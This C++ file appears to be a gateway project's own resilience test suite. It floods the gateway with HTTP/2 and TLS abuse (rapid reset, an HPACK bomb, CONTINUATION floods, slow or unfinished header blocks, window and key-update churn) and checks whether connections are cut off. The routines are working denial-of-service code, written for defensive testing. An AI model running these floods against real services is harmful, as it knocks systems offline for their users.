// These frames cost the gateway more than they cost their sender.
#include <nghttp2/nghttp2.h>

#include "tests/attack/attack.h"
#include "tests/attack/requests.h"

namespace accord::attack {
namespace {

const std::string kGetAgency = std::string(kRegistry) + "GetAgency";
const std::string kOne{"\0\0\0\1", 4};

// Floods each connection with the frames that `make` writes, up to 64 KiB ahead of the socket.
Report FloodFrames(const Order& order, const std::function<void(Peer&, int32_t)>& make, bool opens) {
  Report report;
  Peers peers = ConnectAll(order, order.connections, {}, &report);
  std::vector<int32_t> streams(peers.size());
  const auto open = [&](std::size_t i) {
    if (opens && peers[i] != nullptr) streams[i] = peers[i]->Open(CallHeaders(order, kGetAgency));
  };
  for (std::size_t i = 0; i < peers.size(); ++i) open(i);
  while (order.Going()) {
    for (std::size_t i = 0; i < peers.size(); ++i) {
      if (peers[i] == nullptr || !peers[i]->alive() || peers[i]->going()) {
        const int64_t before = report.opened;
        report.closed += peers[i] != nullptr ? 1 : 0;
        if (!order.Going()) break;
        peers[i] = Peer::Connect(order.target, {}, 1);
        ++(peers[i] == nullptr ? report.refused : report.opened);
        if (report.opened > before) open(i);
        continue;
      }
      while (peers[i]->alive() && peers[i]->backlog() < (1 << 16)) {
        make(*peers[i], streams[i]);
        ++report.calls;
      }
    }
    Pump(peers, 5);
    for (const auto& peer : peers) {
      if (peer != nullptr) report.Take(peer->Ended());
    }
  }
  report.figures["frames_per_s"] = static_cast<double>(report.calls) / order.seconds;
  return report;
}

Report CutOff(Report report) {
  report.Expect(report.closed > 0, "a connection that sends frames which do nothing was never cut off");
  return report;
}

Report WindowUpdates(const Order& order) {
  return CutOff(FloodFrames(
      order, [](Peer& peer, int32_t) { peer.Frame(NGHTTP2_WINDOW_UPDATE, 0, 0, kOne); }, false));
}
Report StreamWindowUpdates(const Order& order) {
  return CutOff(FloodFrames(
      order, [](Peer& peer, int32_t stream) { peer.Frame(NGHTTP2_WINDOW_UPDATE, 0, stream, kOne); }, true));
}
Report UnknownFrames(const Order& order) {
  return CutOff(FloodFrames(
      order, [](Peer& peer, int32_t) { peer.Frame(0xfa, 0, 0, "12345678"); }, false));
}
Report EmptyData(const Order& order) {
  return CutOff(FloodFrames(
      order, [](Peer& peer, int32_t stream) { peer.Frame(NGHTTP2_DATA, 0, stream, ""); }, true));
}
Report Padding(const Order& order) {
  const std::string pad = std::string(1, '\x08') + std::string(8, '\0');
  return CutOff(FloodFrames(
      order, [&](Peer& peer, int32_t stream) { peer.Frame(NGHTTP2_DATA, NGHTTP2_FLAG_PADDED, stream, pad); },
      true));
}
Report Continuations(const Order& order) {
  return FloodFrames(
      order,
      [](Peer& peer, int32_t) {
        const int32_t stream = peer.next_stream();
        peer.Frame(NGHTTP2_HEADERS, 0, stream, "");
        for (int i = 0; i < 500; ++i) peer.Frame(NGHTTP2_CONTINUATION, 0, stream, "");
      },
      false);
}
// This opens streams that HTTP/2 itself refuses because a header name has a capital letter. No quota of calls
// counts them, and the rest of each block is decoded for nothing.
Report NoCalls(const Order& order) {
  const Headers headers = CallHeaders(order, kGetAgency, {{"Capital", "x"}});
  return CutOff(FloodFrames(
      order,
      [&](Peer& peer, int32_t) {
        const int32_t stream = peer.next_stream();
        const std::string block = peer.HeaderBlock(headers) + std::string(8000, '\xbe');
        peer.Frame(NGHTTP2_HEADERS, NGHTTP2_FLAG_END_HEADERS, stream, block);
      },
      false));
}
Report Settings(const Order& order) {
  return FloodFrames(
      order, [](Peer& peer, int32_t) { peer.Frame(NGHTTP2_SETTINGS, 0, 0, ""); }, false);
}
Report Pings(const Order& order) {
  return FloodFrames(
      order, [](Peer& peer, int32_t) { peer.Frame(NGHTTP2_PING, 0, 0, "12345678"); }, false);
}
Report Priorities(const Order& order) {
  return FloodFrames(
      order,
      [](Peer& peer, int32_t) {
        peer.Frame(NGHTTP2_PRIORITY, 0, peer.next_stream(), std::string("\0\0\0\0\1", 5));
      },
      false);
}

Report RapidReset(const Order& order) {
  const Headers headers = CallHeaders(order, kGetAgency);
  const std::string body = Named("agencies/" + order.agency);
  return FloodFrames(
      order, [&](Peer& peer, int32_t) { peer.Reset(peer.Call(headers, body)); }, false);
}
// This does the same, but resets each call a moment later, when it has reached a service.
Report LateReset(const Order& order) {
  const Headers headers = CallHeaders(order, std::string(kReferrals) + "ListReferrals");
  std::map<Peer*, std::deque<int32_t>> sent;
  return Flood(order, 90, 400, [&](Peer& peer) {
    auto& mine = sent[&peer];
    mine.push_back(peer.Call(headers, Page(50)));
    while (mine.size() > 4) {
      peer.Reset(mine.front());
      mine.pop_front();
    }
  });
}

// Requests new keys in both directions, again and again.
Report KeyUpdates(const Order& order) {
  return FloodFrames(
      order,
      [](Peer& peer, int32_t) {
        SSL_key_update(const_cast<SSL*>(peer.ssl()), SSL_KEY_UPDATE_REQUESTED);
        peer.Frame(NGHTTP2_PING, 0, 0, "12345678");
        peer.Turn();
      },
      false);
}

// This sends headers that take one byte each on the wire and 4 KiB each when decoded.
Report Hpack(const Order& order) {
  std::string bomb("\x40\x01x\x7f\xe0\x1e", 6);
  bomb += std::string(4063, 'h');
  return FloodFrames(
      order,
      [&](Peer& peer, int32_t) {
        const int32_t stream = peer.next_stream();
        const std::string block = peer.HeaderBlock({}) + bomb + std::string(8000, '\xbe');
        peer.Frame(NGHTTP2_HEADERS, NGHTTP2_FLAG_END_HEADERS, stream, block);
      },
      false);
}

// This changes the initial window of all streams up and down: each change is work for every open stream.
Report WindowFlips(const Order& order) {
  Report report;
  Peers peers = ConnectAll(order, order.connections, {}, &report);
  const std::string up("\0\4\0\x0f\xff\xff", 6);
  const std::string down("\0\4\0\0\0\0", 6);
  while (order.Going()) {
    Reopen(order, {}, &peers, &report);
    for (const auto& peer : peers) {
      if (peer == nullptr) continue;
      while (peer->alive() && peer->open_calls() < 40) {
        peer->Open(CallHeaders(order, std::string(kReferrals) + "WatchReferrals"));
      }
      while (peer->alive() && peer->backlog() < (1 << 16)) {
        peer->Frame(NGHTTP2_SETTINGS, 0, 0, up + down + up + down + up + down);
        ++report.calls;
      }
      report.Take(peer->Ended());
    }
    Pump(peers, 5);
  }
  return report;
}

// This reads large answers through a window of one byte.
Report ByteWindows(const Order& order) {
  Manners manners;
  manners.window = 1;
  const Headers headers = CallHeaders(order, std::string(kProtocols) + "ListProtocols");
  return Flood(
      order, 20, 0, [&](Peer& peer) { peer.Call(headers, PageOfDrafts()); }, manners);
}

// This sends header blocks that never end: each occupies a connection and the memory for what was sent.
Report HalfHeaders(const Order& order) {
  Report report;
  Peers peers = ConnectAll(order, order.CountOr(400), {}, &report);
  for (const auto& peer : peers) {
    if (peer == nullptr) continue;
    peer->Frame(NGHTTP2_HEADERS, 0, 1, peer->HeaderBlock(CallHeaders(order, kGetAgency)));
  }
  while (order.Going()) {
    Pump(peers, 20);
    Reopen(order, {}, &peers, &report);
  }
  int64_t held = 0;
  for (const auto& peer : peers) held += peer != nullptr && peer->alive() ? 1 : 0;
  report.figures["held_at_the_end"] = static_cast<double>(held);
  return report;
}

// This sends a header block one byte at a time.
Report DripHeaders(const Order& order) {
  Report report;
  const Manners manners;
  Peers peers = ConnectAll(order, order.CountOr(50), manners, &report);
  std::vector<std::string> blocks(peers.size());
  for (std::size_t i = 0; i < peers.size(); ++i) {
    if (peers[i] == nullptr) continue;
    blocks[i] = peers[i]->HeaderBlock(CallHeaders(order, kGetAgency, {{"x-slow", std::string(2000, 's')}}));
    peers[i]->Frame(NGHTTP2_HEADERS, 0, 1, "");
  }
  std::size_t at = 0;
  while (order.Going()) {
    for (std::size_t i = 0; i < peers.size(); ++i) {
      if (peers[i] == nullptr || !peers[i]->alive()) continue;
      peers[i]->Frame(NGHTTP2_CONTINUATION, 0, 1, blocks[i].substr(at % blocks[i].size(), 1));
    }
    ++at;
    const auto sent = Clock::now();
    while (SecondsSince(sent) < 0.1) Pump(peers, 50);
  }
  for (const auto& peer : peers) report.closed += peer != nullptr && !peer->alive() ? 1 : 0;
  report.Expect(order.seconds < 5 || report.closed >= report.opened,
                "header blocks that drip are still open after " + std::to_string(order.seconds) + " s");
  return report;
}

// This sends frames that do nothing and reads nothing: so much is queued for this peer that the gateway
// cannot tell it to stop.
Report DeafFlood(const Order& order) {
  const Headers headers = CallHeaders(order, std::string(kProtocols) + "ListProtocols");
  Manners manners;
  manners.window = 8 << 20;
  Report report;
  Peers peers(static_cast<std::size_t>(order.connections));
  std::vector<Clock::time_point> begun(peers.size());
  while (order.Going()) {
    for (std::size_t i = 0; i < peers.size() && order.Going(); ++i) {
      if (peers[i] == nullptr || !peers[i]->alive()) {
        report.closed += peers[i] != nullptr ? 1 : 0;
        peers[i] = Peer::Connect(order.target, manners, 1);
        ++(peers[i] == nullptr ? report.refused : report.opened);
        if (peers[i] == nullptr) continue;
        peers[i]->Deafen();
        peers[i]->Frame(NGHTTP2_WINDOW_UPDATE, 0, 0, std::string("\0\xff\xff\xff", 4));
        for (int call = 0; call < 4; ++call) peers[i]->Call(headers, PageOfDrafts());
        begun[i] = Clock::now();
      }
      // The gateway's answers are awaited first.
      while (peers[i]->alive() && SecondsSince(begun[i]) > 1 && peers[i]->backlog() < (1 << 16)) {
        peers[i]->Frame(NGHTTP2_WINDOW_UPDATE, 0, 0, kOne);
        ++report.calls;
      }
    }
    Pump(peers, 5);
  }
  report.figures["frames_per_s"] = static_cast<double>(report.calls) / order.seconds;
  return CutOff(std::move(report));
}

// Requests answers and does not read them.
Report Unread(const Order& order) {
  Report report;
  Manners manners;
  manners.window = 0;
  manners.refills = false;
  Peers peers = ConnectAll(order, order.connections, manners, &report);
  const Headers headers = CallHeaders(order, std::string(kProtocols) + "ListProtocols");
  while (order.Going()) {
    Reopen(order, manners, &peers, &report);
    for (const auto& peer : peers) {
      if (peer == nullptr) continue;
      while (peer->alive() && peer->open_calls() < order.CountOr(100) / order.connections) {
        // Twelve of these answers are as much as a connection may hold.
        peer->Call(headers, PageOfDrafts());
        ++report.calls;
      }
      report.Take(peer->Ended());
    }
    Pump(peers, 20);
    // A refusal comes back at once, so refused calls are repeated, but with a pause.
    const auto pause = Clock::now();
    while (SecondsSince(pause) < 0.05) Pump(peers, 10);
  }
  int64_t over = 0;
  for (const auto& [name, count] : report.answers) {
    over += name.find("BYTES_OF_") == std::string::npos ? 0 : count;
  }
  report.Expect(over > 0, "no answer was too much for a budget");
  return report;
}

}  // namespace

std::vector<Attack> FrameAttacks() {
  return {
      {"window-updates", "WINDOW_UPDATE of the connection, without end: cut off", WindowUpdates},
      {"stream-window-updates", "WINDOW_UPDATE of a stream, without end: cut off", StreamWindowUpdates},
      {"unknown-frames", "frames of an unknown type, without end: cut off", UnknownFrames},
      {"empty-data", "empty DATA, without end: cut off", EmptyData},
      {"padding", "DATA of padding alone, without end: cut off", Padding},
      {"continuations", "empty CONTINUATION, without end", Continuations},
      {"no-calls", "streams that HTTP/2 refuses, without end: cut off", NoCalls},
      {"settings", "SETTINGS, without end", Settings},
      {"pings", "PING, without end", Pings},
      {"priorities", "PRIORITY, without end", Priorities},
      {"key-updates", "new keys of TLS, again and again", KeyUpdates},
      {"hpack-bomb", "a byte of header block that stands for 4 KiB, 8,000 times", Hpack},
      {"window-flips", "the first window of all streams up and down", WindowFlips},
      {"byte-windows", "large answers through windows of one byte", ByteWindows},
      {"rapid-reset", "calls reset at once", RapidReset},
      {"late-reset", "calls reset when a service works on them", LateReset},
      {"half-headers", "400 header blocks that never end", HalfHeaders},
      {"drip-headers", "a byte of a header block every tenth of a second", DripHeaders},
      {"deaf-flood", "frames that do nothing from somebody who reads nothing: cut off", DeafFlood},
      {"unread-answers", "100 large answers that are never read", Unread},
  };
}

}  // namespace accord::attack
